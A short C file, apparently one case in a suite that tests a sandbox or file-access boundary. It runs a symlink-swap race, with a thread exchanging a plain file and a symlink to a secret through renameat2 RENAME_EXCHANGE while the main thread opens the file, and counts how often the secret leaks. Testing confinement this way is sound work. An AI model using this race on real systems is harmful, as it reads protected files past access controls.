/* R11: the last component swaps: a sibling thread exchanges $WORKDIR/l,
 * a plain file, with a symlink to the secret (renameat2 RENAME_EXCHANGE)
 * while the main thread opens "l". */
#include "escape.h"

static void swap(void *unused)
{
	(void)unused;
	syscall(SYS_renameat2, AT_FDCWD, "l", AT_FDCWD, "s", RENAME_EXCHANGE);
}

int attack(int argc, char **argv)
{
	static struct racer r = { .bad = swap, .good = swap };
	pthread_t t;
	long w = 0, i;
	int fd = open("l", O_CREAT | O_WRONLY, 0644);

	if (fd >= 0)
		close(fd);
	if (symlink(ARG("secret"), "s") < 0)
		say("symlink: %s", errname(errno));
	pthread_create(&t, NULL, racer_thread, &r);
	for (i = 0; i < RACE_N; i++)
		w += open_leaks("l", ARG("token"));
	racer_stop(&r);
	pthread_join(t, NULL);
	wins(w, i);
	return 0;
}
